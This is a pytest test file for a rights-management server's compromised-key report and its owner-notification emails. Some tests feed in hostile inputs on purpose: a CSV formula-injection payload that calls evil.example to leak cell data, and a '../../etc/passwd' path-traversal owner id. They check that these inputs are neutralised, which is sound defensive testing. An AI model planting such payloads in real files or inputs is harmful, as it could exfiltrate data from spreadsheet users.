"""The per-owner report of content under compromised keys (JSON, CSV) and the notices to owners,
delivered to a real SMTP server on 127.0.0.1 (aiosmtpd) or kept in an outbox folder: each owner is told
once per compromised key, reruns change nothing, and the report follows republishing. What clients chose
(content ids, owner ids) never starts a formula in the CSV, and owner ids of any valid form get their
notice into the outbox."""

import asyncio
import collections
import csv
import email
import email.policy
import io
import json
import os
import socket
import stat
import subprocess
import sys
import threading
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from aiosmtpd.controller import Controller
from conftest import KEY_PASSWORD, _running_node, free_port, provision, sqlite_database
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rmsd import admin, clusters, compromise, identity
from rmsd.client import RmsClient, User, encrypt_content
from rmsd.errors import RmsdError
from rmsd.schema import content, owner_notices, utcnow

SENDER = "rms-admins@example.com"


class Inbox:
    """An aiosmtpd handler keeping every message it accepted."""

    def __init__(self):
        self.messages: list[email.message.Message] = []
        self.lock = threading.Lock()

    async def handle_DATA(self, server, session, envelope):  # noqa: N802 - aiosmtpd's hook name
        with self.lock:
            self.messages.append(email.message_from_bytes(envelope.content, policy=email.policy.default))
        return "250 Message accepted for delivery"


@pytest.fixture
def smtp():
    inbox = Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        yield controller, inbox
    finally:
        controller.stop()


@pytest.fixture
def compromised(tmp_path):
    """A running root node whose first key was compromised after alice (2 documents) and carol (1)
    published under it; dave published after the rotation."""
    gen = _running_node(tmp_path, sqlite_database(tmp_path))
    node = next(gen)
    client = RmsClient(node.url)
    people = {}
    for name in ("alice", "carol", "dave"):
        people[name] = User.new(f"{name}@example.com", node.token(f"{name}@example.com"))
        client.certify(people[name])
    pls = {cid: client.publish(people[owner], cid, encrypt_content(b"x")[0], {f"{owner}@example.com": ["VIEW"]})
           for cid, owner in (("plan-a", "alice"), ("plan-b", "alice"), ("budget", "carol"))}
    old_key = client.slc()["key_id"]
    admin.ensure_cluster_key(cluster="c1", key_password=KEY_PASSWORD, compromised_keys=[old_key],
                             **node.database.admin_args())
    client.certify(people["dave"])
    fresh = client.publish(people["dave"], "fresh", encrypt_content(b"y")[0], {"dave@example.com": ["VIEW"]})
    try:
        yield {"node": node, "client": client, "people": people, "pls": pls, "old_key": old_key,
               "new_key": fresh["key_id"]}
    finally:
        gen.close()


def report(setup, tmp_path, **kwargs):
    args = {"cluster": "c1", "json_path": str(tmp_path / "report" / "affected.json"),
            "csv_path": str(tmp_path / "report" / "affected.csv"), **setup["node"].database.admin_args(), **kwargs}
    return admin.ensure_compromise_report(**args)


def test_report_lists_what_each_owner_must_republish(compromised, tmp_path):
    check = report(compromised, tmp_path, check_mode=True)
    assert check.changed and not (tmp_path / "report").exists()
    done = report(compromised, tmp_path)
    assert done.changed and done.facts["report"]["pending"] == 3 and done.facts["report"]["republished"] == 0
    assert done.facts["report"]["top_owners"] == [
        {"owner": "alice@example.com", "pending": 2, "republished": 0},
        {"owner": "carol@example.com", "pending": 1, "republished": 0},
    ]
    assert done.facts["report"]["owner_count"] == 2
    data = json.loads((tmp_path / "report" / "affected.json").read_text())
    assert [k["id"] for k in data["compromised_keys"]] == [compromised["old_key"]]
    assert data["owners_file"] == "affected.owners.jsonl" and data["rows_sha256"] == done.facts["report"]["rows_sha256"]
    owners = [json.loads(line) for line in (tmp_path / "report" / "affected.owners.jsonl").read_text().splitlines()]
    assert [o["owner"] for o in owners] == ["alice@example.com", "carol@example.com"]
    assert [c["content_id"] for o in owners for c in o["content"]] == ["plan-a", "plan-b", "budget"]
    rows = list(csv.DictReader(io.StringIO((tmp_path / "report" / "affected.csv").read_text())))
    assert sorted((r["owner"], r["content_id"], r["status"]) for r in rows) == [
        ("alice@example.com", "plan-a", "pending"), ("alice@example.com", "plan-b", "pending"),
        ("carol@example.com", "budget", "pending"),
    ]
    for name in ("affected.json", "affected.owners.jsonl", "affected.csv"):
        assert stat.S_IMODE(os.stat(tmp_path / "report" / name).st_mode) == 0o640
    assert report(compromised, tmp_path).changed is False

    # Progress: alice republishes plan-a; the report says so and what is still pending.
    alice = compromised["people"]["alice"]
    compromised["client"].certify(alice)
    new = compromised["client"].publish(alice, "plan-a", encrypt_content(b"x")[0], {"alice@example.com": ["VIEW"]},
                                        supersedes=compromised["pls"]["plan-a"]["pl_id"])
    progressed = report(compromised, tmp_path)
    assert progressed.changed and progressed.facts["report"]["pending"] == 2
    assert progressed.facts["report"]["republished"] == 1
    rows = {r["content_id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "report" / "affected.csv").read_text()))}
    assert rows["plan-a"]["status"] == "republished" and rows["plan-a"]["republished_as"] == new["pl_id"]
    assert rows["plan-b"]["status"] == "pending"


def test_each_owner_is_notified_once_over_smtp(compromised, tmp_path, smtp):
    controller, inbox = smtp
    smtp_args = {"notify": True, "sender": SENDER, "smtp_host": "127.0.0.1", "smtp_port": controller.port}
    check = report(compromised, tmp_path, check_mode=True, **smtp_args)
    assert check.facts["notified"] == 2 and inbox.messages == []
    assert check.facts["notified_owners"] == ["alice@example.com", "carol@example.com"]
    sent = report(compromised, tmp_path, **smtp_args)
    assert sent.changed and sent.facts["notified"] == 2
    assert sent.facts["notified_owners"] == ["alice@example.com", "carol@example.com"]
    assert sorted(m["To"] for m in inbox.messages) == ["alice@example.com", "carol@example.com"]
    alice = next(m for m in inbox.messages if m["To"] == "alice@example.com")
    assert alice["From"] == SENDER and "2 documents of yours must be republished" in alice["Subject"]
    body = alice.get_content()
    for word in ("plan-a", "plan-b", compromised["old_key"], "https://rms.example.com"):
        assert word in body
    assert "budget" not in body and "fresh" not in body
    again = report(compromised, tmp_path, **smtp_args)
    assert again.changed is False and again.facts["notified"] == 0 and len(inbox.messages) == 2


def test_check_mode_foresees_the_report_and_notices_of_a_key_about_to_be_declared_compromised(
        compromised, tmp_path, smtp):
    controller, inbox = smtp
    smtp_args = {"notify": True, "sender": SENDER, "smtp_host": "127.0.0.1", "smtp_port": controller.port}
    assert report(compromised, tmp_path, **smtp_args).changed
    files = {p.name: p.read_bytes() for p in (tmp_path / "report").iterdir()}
    told = len(inbox.messages)
    active = compromised["new_key"]  # dave's "fresh" is under it

    # A real run reads the keys' status: a key only expected changes nothing.
    real = report(compromised, tmp_path, expected_compromised_keys=[active], **smtp_args)
    assert real.changed is False and real.facts["report"]["pending"] == 3

    check = report(compromised, tmp_path, check_mode=True, expected_compromised_keys=[active], **smtp_args)
    assert check.changed and check.facts["report"]["pending"] == 4
    assert check.facts["notified"] == 1 and check.facts["notified_owners"] == ["dave@example.com"]
    assert {p.name: p.read_bytes() for p in (tmp_path / "report").iterdir()} == files and len(inbox.messages) == told

    admin.ensure_cluster_key(cluster="c1", key_password=KEY_PASSWORD, compromised_keys=[compromised["old_key"], active],
                             **compromised["node"].database.admin_args())
    done = report(compromised, tmp_path, **smtp_args)
    assert done.changed and done.facts["report"]["pending"] == 4
    assert done.facts["notified"] == 1 and done.facts["notified_owners"] == ["dave@example.com"]
    assert [m["To"] for m in inbox.messages[told:]] == ["dave@example.com"]
    with pytest.raises(RmsdError, match="not a cluster key id"):
        report(compromised, tmp_path, check_mode=True, expected_compromised_keys=["nope"])


def test_notices_render_from_the_operators_templates_into_an_outbox(compromised, tmp_path):
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "owner_notice.subject.j2").write_text("Republish {{ items | length }} item(s), {{ owner }}\n")
    (templates / "owner_notice.txt.j2").write_text(
        "{% for item in items %}{{ item.content_id }};{% endfor %} key {{ key.id }} on {{ cluster.name }}\n")
    outbox = tmp_path / "outbox"
    done = report(compromised, tmp_path, notify=True, sender=SENDER, outbox_dir=str(outbox),
                  template_dir=str(templates))
    assert done.facts["notified_owners"] == ["alice@example.com", "carol@example.com"]
    files = sorted(outbox.iterdir())
    assert len(files) == 2 and all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in files)
    messages = {m["To"]: m for m in (email.message_from_string(f.read_text(), policy=email.policy.default)
                                     for f in files)}
    assert messages["carol@example.com"]["Subject"] == "Republish 1 item(s), carol@example.com"
    assert messages["alice@example.com"].get_content().strip() == (
        f"plan-a;plan-b; key {compromised['old_key']} on c1")


def test_failed_delivery_or_bad_template_records_nothing_and_the_next_run_sends(compromised, tmp_path, smtp):
    controller, inbox = smtp
    with pytest.raises(RmsdError, match="cannot send the notice"):
        report(compromised, tmp_path, notify=True, sender=SENDER, smtp_host="127.0.0.1", smtp_port=free_port())
    templates = tmp_path / "bad"
    templates.mkdir()
    (templates / "owner_notice.txt.j2").write_text("{{ no_such_variable }}")
    with pytest.raises(RmsdError, match="does not render"):
        report(compromised, tmp_path, notify=True, sender=SENDER, smtp_host="127.0.0.1", smtp_port=controller.port,
               template_dir=str(templates))
    assert inbox.messages == []
    sent = report(compromised, tmp_path, notify=True, sender=SENDER, smtp_host="127.0.0.1",
                  smtp_port=controller.port)
    assert sent.facts["notified"] == 2 and len(inbox.messages) == 2


@pytest.mark.parametrize(("kwargs", "message"), [
    ({"notify": True, "smtp_host": "127.0.0.1"}, "needs sender"),
    ({"notify": True, "sender": SENDER}, "exactly one of smtp_host"),
    ({"json_path": "relative/report.json"}, "must be an absolute path"),
])
def test_bad_report_input_is_refused(compromised, tmp_path, kwargs, message):
    with pytest.raises(RmsdError, match=message):
        report(compromised, tmp_path, **kwargs)
    assert not (tmp_path / "report").exists()


# --- at scale: many owners, content seeded straight into the configuration database ---------------------

OWNERS = 40


def free_port_on(address: str) -> int:
    with socket.socket() as s:
        s.bind((address, 0))
        return s.getsockname()[1]


@pytest.fixture
def seeded(database, tmp_path):
    """A cluster whose first key was compromised after OWNERS owners published 1 to 7 documents each under it
    (seeded into its content table); the last document of every fifth owner was republished."""
    provision(database)
    engine = database.engine()
    try:
        with engine.begin() as conn:
            row = clusters.get_cluster(conn, "c1")
            key_id = clusters.active_key_row(conn, row.id).id
            base = datetime(2026, 1, 1, tzinfo=UTC)
            rows, n = [], 0
            for o in range(OWNERS):
                for d in range(o % 7 + 1):
                    rows.append({"pl_id": f"{n:040x}", "cluster_id": row.id, "content_id": f"doc-{o:03d}-{d}",
                                 "owner": f"owner{o:03d}@example.com", "key_id": key_id, "rights": {},
                                 "created_at": base + timedelta(minutes=n)})
                    n += 1
            conn.execute(content.insert(), rows)
    finally:
        engine.dispose()
    admin.ensure_cluster_key(cluster="c1", key_password=KEY_PASSWORD, compromised_keys=[key_id],
                             **database.admin_args())
    republish = [f"doc-{o:03d}-{o % 7}" for o in range(0, OWNERS, 5)]
    mark_republished(database, republish)
    return {"database": database, "rows": n, "key_id": key_id, "republished": republish}


def mark_republished(database, content_ids):
    engine = database.engine()
    try:
        with engine.begin() as conn:
            conn.execute(content.update().where(content.c.content_id.in_(content_ids)).values(
                superseded_by=sa.func.substr(content.c.pl_id, 2) + "f", superseded_at=utcnow()))
    finally:
        engine.dispose()


def scale_report(setup, tmp_path, **kwargs):
    args = {"cluster": "c1", "json_path": str(tmp_path / "r" / "c1.json"), "csv_path": str(tmp_path / "r" / "c1.csv"),
            **setup["database"].admin_args(), **kwargs}
    return admin.ensure_compromise_report(**args)


def test_the_report_streams_per_owner_and_a_rerun_compares_the_rows_digest(seeded, tmp_path):
    folder = tmp_path / "r"
    assert scale_report(seeded, tmp_path, check_mode=True).changed and not folder.exists()
    done = scale_report(seeded, tmp_path)
    summary = done.facts["report"]
    pending_per_owner = {f"owner{o:03d}@example.com": o % 7 + 1 - (o % 5 == 0) for o in range(OWNERS)}
    assert summary["owner_count"] == OWNERS and summary["republished"] == len(seeded["republished"])
    assert summary["pending"] == seeded["rows"] - len(seeded["republished"]) == sum(pending_per_owner.values())
    # the facts stay small: the top owners by pending, never every owner or item
    top = sorted(pending_per_owner.items(), key=lambda kv: (-kv[1], kv[0]))[:10]
    assert [(o["owner"], o["pending"]) for o in summary["top_owners"]] == top
    kept = json.loads((folder / "c1.json").read_text())
    assert kept == {**summary, "format": 3, "owners_file": "c1.owners.jsonl", "rows_revision": kept["rows_revision"]}
    assert kept["rows_revision"].startswith(f"{seeded['rows']}:")
    owners = [json.loads(line) for line in (folder / "c1.owners.jsonl").read_text().splitlines()]
    assert [o["owner"] for o in owners] == sorted(pending_per_owner)
    assert {o["owner"]: o["pending"] for o in owners} == pending_per_owner
    assert all(len(o["content"]) == o["pending"] + o["republished"] for o in owners)
    rows = list(csv.DictReader(io.StringIO((folder / "c1.csv").read_text())))
    assert len(rows) == seeded["rows"] and [r["owner"] for r in rows] == sorted(r["owner"] for r in rows)
    assert [r["content_id"] for r in rows] == [c["content_id"] for o in owners for c in o["content"]]
    assert {r["content_id"] for r in rows if r["status"] == "republished"} == set(seeded["republished"])
    files = ("c1.json", "c1.owners.jsonl", "c1.csv")
    assert {stat.S_IMODE(os.stat(folder / f).st_mode) for f in files} == {0o640}

    # A rerun that changes nothing asks the database for the rows' revision only: no row is read (no progress
    # of the report's rows), no file is rewritten, and the summary kept is the answer.
    inodes = {f: os.stat(folder / f).st_ino for f in files}
    states = []
    rerun = scale_report(seeded, tmp_path, progress=states.append)
    assert not rerun.changed and rerun.facts["report"] == summary
    assert [s["step"] for s in states] == ["done"]
    assert not scale_report(seeded, tmp_path, check_mode=True).changed
    assert {f: os.stat(folder / f).st_ino for f in files} == inodes
    # A file gone or with another mode: rewritten, all of them at once.
    os.chmod(folder / "c1.owners.jsonl", 0o644)
    assert scale_report(seeded, tmp_path).changed and stat.S_IMODE(os.stat(folder / "c1.owners.jsonl").st_mode) == 0o640
    (folder / "c1.csv").unlink()
    assert scale_report(seeded, tmp_path).changed and (folder / "c1.csv").exists()
    # An owner republishes: the digest changes, and the report with it.
    mark_republished(seeded["database"], ["doc-001-1"])
    progressed = scale_report(seeded, tmp_path)
    assert progressed.changed and progressed.facts["report"]["rows_sha256"] != summary["rows_sha256"]
    assert progressed.facts["report"]["pending"] == summary["pending"] - 1
    assert sorted(p.name for p in folder.iterdir()) == sorted(files)  # no temporary file left behind

    # The CSV alone keeps its summary beside it.
    alone = scale_report(seeded, tmp_path, json_path=None, csv_path=str(tmp_path / "csv" / "c1.csv"))
    assert alone.changed and json.loads((tmp_path / "csv" / "c1.csv.summary.json").read_text())["rows_sha256"] == (
        progressed.facts["report"]["rows_sha256"])
    again = scale_report(seeded, tmp_path, json_path=None, csv_path=str(tmp_path / "csv" / "c1.csv"))
    assert not again.changed and again.facts["report"] == alone.facts["report"]


def run_sql(database, statement, **params):
    engine = database.engine()
    try:
        with engine.begin() as conn:
            conn.execute(sa.text(statement), params)
    finally:
        engine.dispose()


@pytest.mark.parametrize("change", [
    "UPDATE content SET owner = 'owner999@example.com' WHERE content_id = 'doc-003-2'",
    "UPDATE content SET content_id = 'renamed' WHERE content_id = 'doc-003-2'",
    "UPDATE content SET created_at = created_at + INTERVAL '1 second' WHERE content_id = 'doc-003-2'",
    "UPDATE content SET superseded_by = NULL, superseded_at = NULL WHERE content_id = 'doc-000-0'",
    "DELETE FROM content WHERE content_id = 'doc-003-2'",
    "INSERT INTO content (pl_id, cluster_id, content_id, owner, key_id, rights, created_at) SELECT "
    "'f' || substr(pl_id, 2), cluster_id, 'copy', owner, key_id, rights, created_at FROM content "
    "WHERE content_id = 'doc-003-2'",
])
def test_a_rerun_sees_any_change_to_the_reported_rows(seeded, tmp_path, change):
    """The rerun decides from a count and a sum of revisions the database keeps: whatever changes a row the
    report covers, by rmsd or by hand, the report is written again and matches the rows."""
    first = scale_report(seeded, tmp_path)
    assert first.changed and not scale_report(seeded, tmp_path).changed
    if seeded["database"].kind == "sqlite":
        change = change.replace("created_at + INTERVAL '1 second'", "datetime(created_at, '+1 second')")
    run_sql(seeded["database"], change)
    again = scale_report(seeded, tmp_path)
    assert again.changed and again.facts["report"]["rows_sha256"] != first.facts["report"]["rows_sha256"]
    fresh = scale_report(seeded, tmp_path, json_path=str(tmp_path / "fresh" / "c1.json"),
                         csv_path=str(tmp_path / "fresh" / "c1.csv"))
    assert (tmp_path / "fresh" / "c1.csv").read_text() == (tmp_path / "r" / "c1.csv").read_text()
    assert fresh.facts["report"] == again.facts["report"]
    assert not scale_report(seeded, tmp_path).changed


def test_progress_goes_to_a_file_an_operator_can_follow(seeded, tmp_path, counting_smtp):
    controller, inbox = counting_smtp
    path = tmp_path / "progress" / "c1.progress.jsonl"
    smtp = {"notify": True, "sender": SENDER, "smtp_host": "127.0.13.1", "smtp_port": controller.port}
    scale_report(seeded, tmp_path, progress_path=str(path), **smtp)
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert [line["step"] for line in lines] == ["started", "report", "notices", "done"]
    assert lines[1]["rows"] == lines[1]["rows_total"] == seeded["rows"]
    assert lines[2]["done"] == lines[2]["due"] == len(PENDING_OWNERS) and lines[2]["seconds_left"] == 0
    assert lines[3]["notified"] == len(PENDING_OWNERS) and all("time" in line for line in lines)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    # each run starts the file afresh; a failed run says why on its last line
    with pytest.raises(RmsdError, match="does not exist"):
        scale_report(seeded, tmp_path, progress_path=str(path), cluster="c9", **smtp)
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert [line["step"] for line in lines] == ["started", "failed"] and "'c9' does not exist" in lines[-1]["error"]


class Counting(Inbox):
    """An inbox that also tells apart the connections messages came over, and can refuse one message with
    421 (the server closing the connection) or hold one until released."""

    def __init__(self, refuse_at: int | None = None, hold_at: int | None = None):
        super().__init__()
        self.peers: set = set()
        self.refuse_at, self.hold_at = refuse_at, hold_at
        self.seen = 0
        self.reached, self.release = threading.Event(), threading.Event()

    async def handle_DATA(self, server, session, envelope):  # noqa: N802 - aiosmtpd's hook name
        self.seen += 1
        if self.seen == self.refuse_at:
            return "421 closing the connection"
        self.peers.add(session.peer)
        reply = await super().handle_DATA(server, session, envelope)
        if len(self.messages) == self.hold_at:
            self.reached.set()
            await asyncio.get_running_loop().run_in_executor(None, self.release.wait, 60)
        return reply


@pytest.fixture
def counting_smtp(request):
    inbox = Counting(**getattr(request, "param", {}))
    controller = Controller(inbox, hostname="127.0.13.1", port=free_port_on("127.0.13.1"))
    controller.start()
    try:
        yield controller, inbox
    finally:
        inbox.release.set()
        controller.stop()


def owners_told(database) -> dict[str, int]:
    engine = database.engine()
    try:
        with engine.connect() as conn:
            return {o: 1 for (o,) in conn.execute(sa.select(owner_notices.c.owner))}
    finally:
        engine.dispose()


PENDING_OWNERS = [f"owner{o:03d}@example.com" for o in range(OWNERS) if o % 7 + 1 - (o % 5 == 0) > 0]


@pytest.mark.parametrize("counting_smtp", [{"refuse_at": 3}], indirect=True)
def test_notices_go_over_one_connection_with_a_dry_run_first(seeded, tmp_path, counting_smtp):
    controller, inbox = counting_smtp
    smtp = {"notify": True, "sender": SENDER, "smtp_host": "127.0.13.1", "smtp_port": controller.port}
    dry = scale_report(seeded, tmp_path, notify_dry_run=True, **smtp)
    assert dry.facts["notified"] == len(PENDING_OWNERS) and dry.facts["notify_dry_run"]
    assert inbox.seen == 0 and owners_told(seeded["database"]) == {}
    assert not scale_report(seeded, tmp_path, notify_dry_run=True, **smtp).changed  # report written, nothing sent

    states = []
    sent = scale_report(seeded, tmp_path, progress=states.append, **smtp)
    assert sent.changed and sent.facts["notified"] == len(PENDING_OWNERS)
    assert sent.facts["notified_owners"] == PENDING_OWNERS[:10]
    assert sorted(m["To"] for m in inbox.messages) == PENDING_OWNERS  # each once, the refused one sent again
    assert len(inbox.peers) == 2  # one connection, opened again once after the server closed it
    notices = [state for state in states if state["step"] == "notices"]
    assert notices[-1]["done"] == notices[-1]["due"] == len(PENDING_OWNERS)
    owner1 = next(m for m in inbox.messages if m["To"] == "owner001@example.com").get_content()
    assert "doc-001-0" in owner1 and "doc-001-1" in owner1 and "doc-002" not in owner1
    assert scale_report(seeded, tmp_path, **smtp).facts["notified"] == 0


def test_notices_keep_to_the_rate():
    clock = [0.0]
    slept = []

    def sleep(seconds):
        slept.append(seconds)
        clock[0] += seconds

    pace = compromise.Pace(4, clock=lambda: clock[0], sleep=sleep)
    for _ in range(5):
        pace.wait()
        clock[0] += 0.05  # each notice takes 50 ms
    assert clock[0] == pytest.approx(4 * 0.25 + 0.05) and len(slept) == 4
    unlimited = compromise.Pace(0, clock=lambda: 0.0, sleep=sleep)
    unlimited.wait()
    assert len(slept) == 4


CHILD = """
import json, sys
from rmsd import admin
admin.ensure_compromise_report(**json.loads(sys.argv[1]))
"""


@pytest.mark.parametrize("counting_smtp", [{"hold_at": 7}], indirect=True)
def test_a_run_killed_while_notifying_then_rerun_tells_every_owner_at_most_one_duplicate_per_kill(
        seeded, tmp_path, counting_smtp):
    controller, inbox = counting_smtp
    args = {"cluster": "c1", **seeded["database"].admin_args(), "notify": True, "sender": SENDER,
            "smtp_host": "127.0.13.1", "smtp_port": controller.port}
    # First kill: the 7th notice was accepted by the server, and the run killed before it heard so.
    first = subprocess.Popen([sys.executable, "-c", CHILD, json.dumps(args)])
    try:
        assert inbox.reached.wait(60)
        first.kill()
        first.wait(30)
    finally:
        inbox.release.set()
    held = inbox.messages[6]["To"]
    # Second kill: at whatever point the run is once the server has 20 messages.
    inbox.hold_at, inbox.reached = 20, threading.Event()
    inbox.release = threading.Event()
    inbox.release.set()  # no holding this time
    second = subprocess.Popen([sys.executable, "-c", CHILD, json.dumps(args)])
    assert inbox.reached.wait(60)
    second.kill()
    second.wait(30)
    assert scale_report(seeded, tmp_path, **{k: v for k, v in args.items() if k not in ("cluster",)}).changed
    received = collections.Counter(m["To"] for m in inbox.messages)
    assert sorted(received) == PENDING_OWNERS  # every owner told
    twice = [owner for owner, n in received.items() if n > 1]
    assert held in twice and len(twice) <= 2 and max(received.values()) == 2  # at most one more per kill
    assert sorted(owners_told(seeded["database"])) == PENDING_OWNERS


# --- what clients chose: content ids and owner ids of any valid form --------------------------------------

HYPOTHESIS = settings(max_examples=60, deadline=None, database=None, derandomize=True,
                      suppress_health_check=list(HealthCheck))
FORMULA_START = "=+-@\t\r"
# The grammars: an owner is an identifier (rmsd.identity: no control character or surrogate, at most 256
# characters); a content id has no control character (rmsd.contract), at most 128 characters.
OWNER_CHARACTERS = st.characters(exclude_categories=("Cc", "Cs"))
CONTENT_ID_CHARACTERS = st.characters(exclude_categories=("Cs",),
                                      exclude_characters=[chr(c) for c in range(32)] + ["\x7f"])


def starting_a_formula(characters, max_size):
    """Text of the grammar, often starting with a character a spreadsheet reads as the start of a formula."""
    anything = st.text(characters, min_size=1, max_size=max_size)
    formula = st.builds(lambda first, rest: (first + rest)[:max_size], st.sampled_from("=+-@"),
                        st.text(characters, max_size=max_size))
    return st.one_of(formula, anything, st.just("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"))


@pytest.fixture
def one_compromised_key(tmp_path):
    """A cluster whose first key is compromised; the tests seed its content table."""
    database = sqlite_database(tmp_path)
    provision(database)
    engine = database.engine()
    with engine.connect() as conn:
        key_id = clusters.active_key_row(conn, clusters.get_cluster(conn, "c1").id).id
    admin.ensure_cluster_key(cluster="c1", key_password=KEY_PASSWORD, compromised_keys=[key_id],
                             **database.admin_args())
    try:
        yield {"database": database, "engine": engine, "key_id": key_id}
    finally:
        engine.dispose()


def seed(setup, rows):
    """Only `rows` (owner, content id) under the compromised key, and no owner told yet."""
    with setup["engine"].begin() as conn:
        cluster_id = clusters.get_cluster(conn, "c1").id
        conn.execute(owner_notices.delete())
        conn.execute(content.delete())
        conn.execute(content.insert(), [
            {"pl_id": f"{n:040x}", "cluster_id": cluster_id, "content_id": content_id, "owner": owner,
             "key_id": setup["key_id"], "rights": {}, "created_at": datetime(2026, 1, 1, tzinfo=UTC)}
            for n, (owner, content_id) in enumerate(rows)])


def test_no_csv_cell_a_client_chose_starts_a_formula_and_the_json_stays_exact(one_compromised_key, tmp_path,
                                                                              record_property):
    cases = neutralised = 0
    folder = tmp_path / "r"

    @given(rows=st.lists(st.tuples(starting_a_formula(OWNER_CHARACTERS, identity.MAX_IDENTIFIER),
                                   starting_a_formula(CONTENT_ID_CHARACTERS, 128)),
                         min_size=1, max_size=4, unique=True))
    @HYPOTHESIS
    def check(rows):
        nonlocal cases, neutralised
        seed(one_compromised_key, rows)
        done = admin.ensure_compromise_report(
            cluster="c1", json_path=str(folder / "c1.json"), csv_path=str(folder / "c1.csv"),
            **one_compromised_key["database"].admin_args())
        assert done.facts["report"]["pending"] == len(rows)
        with open(folder / "c1.csv", newline="", encoding="utf-8") as f:
            header, *cells = list(csv.reader(f))
        assert header == list(compromise.CSV_FIELDS) and len(cells) == len(rows)
        for line in cells:
            assert len(line) == len(compromise.CSV_FIELDS)
            assert not any(cell.startswith(tuple(FORMULA_START)) for cell in line), line
        written = sorted((line[0], line[1]) for line in cells)
        assert written == sorted((quoted(owner), quoted(content_id)) for owner, content_id in rows)
        neutralised += sum(quoted(v) != v for row in rows for v in row)
        owners = [json.loads(line) for line in (folder / "c1.owners.jsonl").read_text(encoding="utf-8").splitlines()]
        assert sorted((o["owner"], item["content_id"]) for o in owners for item in o["content"]) == sorted(rows)
        cases += 1

    check()
    assert neutralised > 0
    record_property("hypothesis_cases", f"CSV cells clients chose: {cases} reports, {neutralised} cells starting a "
                                        "formula neutralised, JSON exact")


def quoted(value: str) -> str:
    """A CSV cell as OWASP's advice writes it: a single quote before a cell that would start a formula."""
    return "'" + value if value.startswith(tuple(FORMULA_START)) else value


def test_owner_ids_of_any_valid_form_get_their_notice_into_the_outbox_once(one_compromised_key, tmp_path,
                                                                          record_property):
    cases = 0
    outbox = tmp_path / "outbox"
    args = {"cluster": "c1", "notify": True, "sender": SENDER, "outbox_dir": str(outbox),
            **one_compromised_key["database"].admin_args()}

    @given(owner=st.one_of(st.text(OWNER_CHARACTERS, min_size=1, max_size=identity.MAX_IDENTIFIER),
                           st.text(OWNER_CHARACTERS, min_size=200, max_size=identity.MAX_IDENTIFIER),
                           st.sampled_from(["../../etc/passwd", ".", "..", "a/b", "x" * 256, "é" * 256,
                                            "\U0001f511" * 256])))
    @HYPOTHESIS
    def check(owner):
        nonlocal cases
        assert identity.identifier_problem(owner) is None
        seed(one_compromised_key, [(owner, "doc")])
        for old in outbox.glob("*"):
            old.unlink()
        sent = admin.ensure_compromise_report(**args)
        files = list(outbox.iterdir())
        assert sent.facts["notified"] == 1 and len(files) == 1
        assert f"To: {owner}\n" in files[0].read_text(encoding="utf-8")
        assert stat.S_IMODE(files[0].stat().st_mode) == 0o600
        again = admin.ensure_compromise_report(**args)
        assert again.facts["notified"] == 0 and list(outbox.iterdir()) == files
        cases += 1

    check()
    record_property("hypothesis_cases", f"owner ids of any valid form: {cases} notices written to the outbox, "
                                        "none sent again")


def test_a_publisher_chosen_formula_and_a_long_owner_id_over_http(tmp_path):
    """The reproduction, end to end: content id "=HYPERLINK(...)" published over HTTP by a user whose id has
    200 characters (400 bytes of UTF-8), under a key then revoked as compromised."""
    gen = _running_node(tmp_path, sqlite_database(tmp_path))
    node = next(gen)
    try:
        client = RmsClient(node.url)
        owner = ("josé.garcía-" * 20)[:188] + "@example.com"
        assert len(owner) == 200 and identity.identifier_problem(owner) is None
        publisher = User.new(owner, node.token(owner))
        client.certify(publisher)
        formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
        client.publish(publisher, formula, encrypt_content(b"x")[0], {owner: ["VIEW"]})
        admin.ensure_cluster_key(cluster="c1", key_password=KEY_PASSWORD, compromised_keys=[client.slc()["key_id"]],
                                 **node.database.admin_args())
        outbox = tmp_path / "outbox"
        args = {"cluster": "c1", "json_path": str(tmp_path / "r" / "c1.json"),
                "csv_path": str(tmp_path / "r" / "c1.csv"), "notify": True, "sender": SENDER,
                "outbox_dir": str(outbox), **node.database.admin_args()}
        assert admin.ensure_compromise_report(**args).facts["notified"] == 1
        with open(tmp_path / "r" / "c1.csv", newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        assert [(r["owner"], r["content_id"]) for r in rows] == [(owner, "'" + formula)]
        owners = (tmp_path / "r" / "c1.owners.jsonl").read_text(encoding="utf-8").splitlines()
        assert json.loads(owners[0])["content"][0]["content_id"] == formula
        [notice] = outbox.iterdir()
        assert f"To: {owner}\n" in notice.read_text(encoding="utf-8") and owner not in notice.name
        assert admin.ensure_compromise_report(**args).facts["notified"] == 0 and list(outbox.iterdir()) == [notice]
    finally:
        gen.close()


def test_an_outbox_that_cannot_be_written_says_so_and_records_nothing(one_compromised_key, tmp_path):
    seed(one_compromised_key, [("alice@example.com", "doc")])
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("")
    args = {"cluster": "c1", "notify": True, "sender": SENDER, **one_compromised_key["database"].admin_args()}
    with pytest.raises(RmsdError, match="cannot write the notice to alice@example.com into outbox_dir.*next run"):
        admin.ensure_compromise_report(outbox_dir=str(blocked / "outbox"), **args)
    assert owners_told(one_compromised_key["database"]) == {}
    assert admin.ensure_compromise_report(outbox_dir=str(tmp_path / "outbox"), **args).facts["notified"] == 1
